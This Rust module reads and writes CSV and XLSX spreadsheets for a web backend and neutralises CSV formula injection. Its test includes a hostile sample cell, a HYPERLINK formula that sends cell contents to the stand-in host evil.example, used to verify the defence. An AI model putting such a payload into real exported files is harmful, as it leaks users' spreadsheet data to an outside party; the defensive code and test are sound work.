//! Spreadsheets in and out: CSV (UTF-8 with or without BOM, or GBK as Excel in China saves
//! it) and XLSX (told by its ZIP signature), read into rows of text; written back in the
//! same two formats.

mod csv;
pub mod hostile;
mod limits;
mod xlsx;

pub use limits::{Limits, TableError};

fn is_xlsx(bytes: &[u8]) -> bool {
    bytes.starts_with(b"PK\x03\x04")
}

/// The first sheet (XLSX) or the file (CSV) as rows of trimmed text, under `limits`.
/// CPU-bound: call it on a blocking thread.
pub fn read(bytes: &[u8], limits: Limits) -> Result<Vec<Vec<String>>, TableError> {
    if is_xlsx(bytes) {
        xlsx::read(bytes, limits)
    } else {
        csv::read(bytes, limits)
    }
}

/// CSV with a UTF-8 BOM, so Excel opens the Chinese text correctly. A cell that a
/// spreadsheet would take for a formula is written as text (see [`neutralise`]).
pub fn write_csv(rows: &[Vec<String>]) -> Vec<u8> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    let mut writer = ::csv::Writer::from_writer(Vec::new());
    for row in rows {
        let _ = writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned()));
    }
    out.extend(writer.into_inner().unwrap_or_default());
    out
}

/// Characters that make a spreadsheet read a CSV cell as a formula (OWASP, CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as text that no spreadsheet evaluates: one starting with a formula character gets
/// a leading `'`, which Excel and WPS show as text. The reader takes the `'` off again, so an
/// export imports back unchanged.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The cell as written before [`neutralise`].
fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// One sheet of text cells (numbers stay text so codes keep their leading zeros).
pub fn write_xlsx(rows: &[Vec<String>]) -> anyhow::Result<Vec<u8>> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            sheet.write_string(r as u32, c as u16, cell)?;
        }
    }
    Ok(workbook.save_to_buffer()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Vec<Vec<String>> {
        vec![
            vec!["品牌".into(), "单价（元）".into(), "供货城市".into()],
            vec!["得力, 文具".into(), "25.80".into(), "310100".into()],
        ]
    }

    #[test]
    fn csv_and_xlsx_round_trip() {
        assert_eq!(
            read(&write_csv(&sample()), Limits::IMPORT).unwrap(),
            sample()
        );
        assert_eq!(
            read(&write_xlsx(&sample()).unwrap(), Limits::IMPORT).unwrap(),
            sample()
        );
    }

    #[test]
    fn reads_gbk_as_excel_saves_it() {
        let (gbk, _, _) = encoding_rs::GBK.encode("品牌,单价（元）\n得力,25.80\n");
        let rows = read(&gbk, Limits::IMPORT).unwrap();
        assert_eq!(rows[1], ["得力", "25.80"]);
    }

    #[test]
    fn formulas_are_written_as_text_and_read_back_as_written() {
        let evil = vec![vec![
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")".to_string(),
            "+1".into(),
            "-2+3".into(),
            "@SUM(A1)".into(),
            "\tx".into(),
            "\r=1".into(),
            "得力".into(),
            "'quoted".into(),
        ]];
        let csv = String::from_utf8(write_csv(&evil)).unwrap();
        for line in csv.trim_start_matches('\u{feff}').lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !cell.starts_with(FORMULA_STARTS),
                    "live formula in {cell:?}"
                );
            }
        }
        // Leading tabs and CRs are trimmed on reading, like any padding.
        let expected: Vec<Vec<String>> =
            vec![evil[0].iter().map(|c| c.trim().to_string()).collect()];
        assert_eq!(read(csv.as_bytes(), Limits::IMPORT).unwrap(), expected);
    }
}

/// `rows` as a file to download: XLSX when `format` is `xlsx`, CSV otherwise, named
/// `name.csv` or `name.xlsx`, never cached.
pub fn download(
    rows: &[Vec<String>],
    format: Option<&str>,
    name: &str,
) -> Result<axum::response::Response, crate::error::ApiError> {
    use axum::http::{header, HeaderValue};
    use axum::response::IntoResponse;
    let (bytes, mime, ext) = match format {
        Some("xlsx") => (
            write_xlsx(rows)?,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "xlsx",
        ),
        _ => (write_csv(rows), "text/csv; charset=utf-8", "csv"),
    };
    let mut response = bytes.into_response();
    let h = response.headers_mut();
    h.insert(header::CONTENT_TYPE, HeaderValue::from_static(mime));
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{name}.{ext}\"")) {
        h.insert(header::CONTENT_DISPOSITION, v);
    }
    h.insert(
        header::CACHE_CONTROL,
        HeaderValue::from_static("private, no-store"),
    );
    Ok(response)
}
